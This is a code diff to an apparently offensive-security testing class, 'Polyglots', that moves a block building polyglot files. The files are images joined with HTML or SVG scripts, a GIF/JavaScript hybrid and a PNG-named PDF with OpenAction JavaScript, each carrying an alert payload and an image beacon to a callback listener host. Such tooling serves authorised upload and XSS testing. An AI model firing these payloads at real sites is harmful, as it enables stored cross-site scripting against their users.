@@ -66,6 +66,15 @@ public final class Polyglots {
     public static List<File> all(String listener) {
         var files = new ArrayList<File>();
         var evil = "document.title='RAN';alert(1)";
+        var page = "<html><script>" + evil + "</script><img src='http://" + listener + "/p/21'></html>";
+        for (var format : List.of("png", "jpg", "gif")) {
+            var picture = picture(format);
+            files.add(new File("picture.html", join(picture, page.getBytes(StandardCharsets.UTF_8))));
+            files.add(new File("picture." + format, join(page.getBytes(StandardCharsets.UTF_8), picture)));
+            files.add(new File(
+                    "picture.svg",
+                    join(picture, drawing("", "<script>" + evil + "</script>").getBytes(StandardCharsets.UTF_8))));
+        }
         for (var inner : DRAWINGS)
             files.add(
                     text("drawing.svg", drawing("", inner).replace("EVIL", evil).replace("AT", listener)));
@@ -80,15 +89,6 @@ public final class Polyglots {
                     drawing(before, "<rect width='9' height='9'/>")
                             .replace("EVIL", evil)
                             .replace("AT", listener)));
-        var page = "<html><script>" + evil + "</script><img src='http://" + listener + "/p/21'></html>";
-        for (var format : List.of("png", "jpg", "gif")) {
-            var picture = picture(format);
-            files.add(new File("picture.html", join(picture, page.getBytes(StandardCharsets.UTF_8))));
-            files.add(new File("picture." + format, join(page.getBytes(StandardCharsets.UTF_8), picture)));
-            files.add(new File(
-                    "picture.svg",
-                    join(picture, drawing("", "<script>" + evil + "</script>").getBytes(StandardCharsets.UTF_8))));
-        }
         files.add(text("picture.gif", "GIF89a/*" + "\0".repeat(8) + "*/=0;" + evil + "//"));
         files.add(text("picture.png", "%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"));
         files.add(text("picture.png", page));
